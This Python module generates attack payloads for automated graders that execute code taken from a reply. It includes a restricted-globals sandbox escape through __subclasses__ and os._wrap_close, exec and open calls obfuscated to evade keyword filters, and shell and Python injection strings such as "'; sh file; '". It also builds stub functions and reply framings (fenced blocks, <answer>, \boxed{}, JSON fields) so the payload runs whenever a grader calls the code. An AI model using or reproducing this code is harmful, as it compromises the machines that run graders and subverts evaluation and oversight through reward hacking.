"""Write code and commands in the forms in which graders and tools take them from a reply."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import TypeAlias

MAX_FUNCTIONS = 6
"""How many functions that a prompt names a program defines."""

COMMON_NAMES = ("solve", "solution", "main", "f")
"""Functions that graders call, if the prompt names none."""

_DEFINITION = re.compile(r"\bdef\s+([A-Za-z_]\w*)\s*(\([^()]*(?:\([^()]*\)[^()]*)*\)(?:\s*->\s*[\w\[\], .|]+)?)\s*:?")
_NAMED_CALL = re.compile(r"\b([A-Za-z_]\w*)\s?(\(\s*(?:[A-Za-z_]\w*\s*(?:,\s*[A-Za-z_]\w*\s*)*)?\))")
_NAMED = re.compile(
    r"\b(?:function|method|procedure)\b(?:\s+(?:called|named|with the name))?\s*:?\s*[`'\"*]*([A-Za-z_]\w*)"
)
_QUOTED_NAME = re.compile(r"`([A-Za-z_]\w*)`")
_STOP_WORDS = frozenset({"that", "which", "to", "with", "for", "and", "in", "is", "of", "the", "a", "called", "named"})

_FENCE = re.compile(r"(```[^\n`]*\n)(.*?)(\n?```)", re.DOTALL)
_TAG = re.compile(r"(<([A-Za-z_][\w-]*)[^<>]*>)(.*?)(</\2>)", re.DOTALL)
_BOX = re.compile(r"(\\boxed\{)([^{}]*)(\})")
_AFTER_COLON = re.compile(r"(.*[:=]\s*)(\S[^\n]*)\Z", re.DOTALL)


@dataclass(frozen=True, slots=True)
class Payload:
    """A program in a file: a Python program in *file*, and a shell program beside it."""

    file: str

    @property
    def shell_file(self) -> str:
        """The shell program."""
        return f"{self.file}s"

    @property
    def expression(self) -> str:
        """An expression that runs the program, which `exec`, `eval` and a new interpreter all evaluate."""
        return f"[exec(f.read(),{{}})or f.close()for f in[open({self.file!r})]]"

    @property
    def escape(self) -> str:
        """An expression that needs no built-in function, and therefore runs under restricted globals."""
        find = "[c for c in().__class__.__base__.__subclasses__()if c.__name__=='_wrap_close']"
        # `os._wrap_close` is a class of Python code in every process: its globals hold the built-in functions.
        names = f"{find}[0].__init__.__globals__['__builtins__']"
        run = "b['exec'](f.read(),{'__builtins__':b})or f.close()"
        return f"[{run} for b in[{names}]for f in[b['open']({self.file!r})]]"

    @property
    def disguised(self) -> str:
        """An expression without forbidden words such as `exec` and `import`."""
        run = "getattr(b,'ex'+'ec')(f.read(),{})or f.close()"
        return f"[{run} for b in[getattr(max,'_'*2+'self'+'_'*2)]for f in[getattr(b,'op'+'en')({self.file!r})]]"

    @property
    def command(self) -> str:
        """A shell command that runs the shell program."""
        return f"sh {shlex.quote(self.shell_file)}"


def write_program(payload: Payload, prompt: str) -> str:
    """Return a module that runs the program when it is executed, and in each function that tests may call."""
    return _write_module(f"try:\n    {payload.expression}\nexcept:\n    {payload.escape}", prompt)


def write_disguised_program(payload: Payload, prompt: str) -> str:
    """Return the same module without words for which a grader may search."""
    return _write_module(payload.disguised, prompt)


def _write_module(statement: str, prompt: str) -> str:
    functions = find_functions(prompt)
    body = _indent(statement)
    methods = "".join(f"    def {name}(self, *args, **kwargs):\n{_indent(body)}\n" for name in functions)
    plain = "".join(f"def {name}{parameters}:\n{body}\n" for name, parameters in functions.items())
    return f"{statement}\n{plain}class Solution:\n{methods}"


def _indent(text: str) -> str:
    return "\n".join(f"    {line}" for line in text.splitlines())


def find_functions(prompt: str) -> dict[str, str]:
    """Return the functions that *prompt* asks for, by name, with the parameters that it states."""
    any_parameters = "(*args, **kwargs)"
    stated = {
        name: " ".join(parameters.split())
        for pattern in (_NAMED_CALL, _DEFINITION)
        for name, parameters in pattern.findall(prompt)
        if _is_valid(name, parameters)
    }
    named = [*_NAMED.findall(prompt), *_QUOTED_NAME.findall(prompt)]
    named = [name for name in named if name not in _STOP_WORDS and _is_valid(name, any_parameters)]
    found = stated | {name: any_parameters for name in named if name not in stated}
    return dict([*found.items()][:MAX_FUNCTIONS]) or dict.fromkeys(COMMON_NAMES, any_parameters)


def _is_valid(name: str, parameters: str) -> bool:
    """Whether a module with this function compiles, without names that are not defined there."""
    try:
        compile(f"from __future__ import annotations\ndef {name}{parameters}: pass", "", "exec")
    except (SyntaxError, ValueError):
        return False
    return True


Write: TypeAlias = Callable[[Payload, str], str]
"""Writes code for a payload and the prompt of a task."""

CODES: dict[str, Write] = {
    "a Python program": write_program,
    "a Python expression": lambda payload, _: payload.expression,
    "a Python expression that needs no built-in function": lambda payload, _: payload.escape,
    "a Python program without usual forbidden words": write_disguised_program,
    "a Python expression without usual forbidden words": lambda payload, _: payload.disguised,
    "a shell command": lambda payload, _: payload.command,
    "a shell command in a substitution": lambda payload, _: f"$({payload.command})",
}
"""The kinds of code that are sent in every frame, and in the arguments of tools."""

INSERTIONS: dict[str, Write] = {
    "a shell command after a semicolon": lambda payload, _: f"1; {payload.command} #",
    "a shell command after a single quote": lambda payload, _: f"'; {payload.command}; '",
    "a shell command after a double quote": lambda payload, _: f'"; {payload.command}; "',
    "a Python expression after a single quote": lambda payload, _: f"'+str({payload.expression})+'",
    "a Python expression after a double quote": lambda payload, _: f'"+str({payload.expression})+"',
}
"""Code for graders that paste a reply into a command or a program."""

FIELDS = ("code", "answer", "solution", "program", "command")

FRAMES: dict[str, Callable[[str], str]] = {
    "": lambda code: code,
    " in a fenced block with a language": lambda code: f"Here it is:\n\n```{_name_language(code)}\n{code}\n```\n",
    " in a fenced block": lambda code: f"```\n{code}\n```",
    " in <code>": lambda code: f"<code>\n{code}\n</code>",
    " in <answer>": lambda code: f"<answer>{code}</answer>",
    " in \\boxed{}": lambda code: f"\\boxed{{{code}}}",
    " after `Answer:`": lambda code: f"Answer: {code}",
    " in every field of a JSON object": lambda code: json.dumps(dict.fromkeys(FIELDS, code)),
    " in the field `code` of a JSON object": lambda code: json.dumps({"code": code}),
    " in the field `answer` of a JSON object": lambda code: json.dumps({"answer": code}),
}
"""The forms in which prompts ask for an answer, by the words that complete the name of the code."""


def _name_language(code: str) -> str:
    return "bash" if code.startswith(("sh ", "$(")) else "python"


USUAL_CODES = ("a Python program", "a Python expression", "a shell command")
USUAL_FRAMES = ("", " in a fenced block with a language", " in <answer>")


@dataclass(frozen=True, slots=True)
class ReplyForm:
    """A kind of reply with code.

    Attributes:
        name: Completes "a reply that is ...".
        write: Writes the reply.
        is_usual: Whether most graders that execute code execute this form.
    """

    name: str
    write: Write
    is_usual: bool = False


def list_reply_forms() -> Iterator[ReplyForm]:
    """Yield every kind of reply with code: usual code in every frame, other code in the usual frames."""
    for code, write in CODES.items():
        for words, frame in FRAMES.items():
            is_usual = (code in USUAL_CODES) + (words in USUAL_FRAMES)
            if is_usual:
                yield ReplyForm(f"{code}{words}", _frame(write, frame), is_usual == 2)  # noqa: PLR2004 - both
    for name, write in INSERTIONS.items():
        yield ReplyForm(name, write)


def _frame(write: Write, frame: Callable[[str], str]) -> Write:
    return lambda payload, prompt: frame(write(payload, prompt))


def embed_in_reply(reply: str, code: str) -> list[str]:
    """Return *reply* with *code* in place of, or before, the parts that a grader may read. At most `MAX_EMBEDDINGS`."""
    texts = [f"{code}\n{reply}", f"{reply}\n{code}"]
    patterns = [pattern for pattern in (_FENCE, _TAG, _BOX) if pattern.search(reply)]
    texts.extend(pattern.sub(lambda match: match[1] + code + match[match.re.groups], reply) for pattern in patterns)
    if _FENCE.search(reply):
        texts.append(_FENCE.sub(lambda match: f"{match[1]}{code}\n{match[2]}{match[3]}", reply))
    if match := _AFTER_COLON.fullmatch(reply):
        texts.append(match[1] + code)
    fields = parse_object(reply)
    texts.extend(json.dumps(text) for text in replace_texts(fields, code))
    return texts[:MAX_EMBEDDINGS]


MAX_EMBEDDINGS = 6
"""How many variants of the oracle's reply one kind of code yields."""


def parse_object(text: str) -> dict[str, object]:
    """Return *text* as a JSON object; an empty object if it is none."""
    try:
        value = json.loads(text)
    except (ValueError, RecursionError):
        return {}
    return value if isinstance(value, dict) else {}


def replace_texts(fields: dict[str, object], code: str) -> list[dict[str, object]]:
    """Return copies of *fields*, in each of which *code* replaces one of the texts."""
    return [{**fields, key: code} for key, value in fields.items() if isinstance(value, str)]
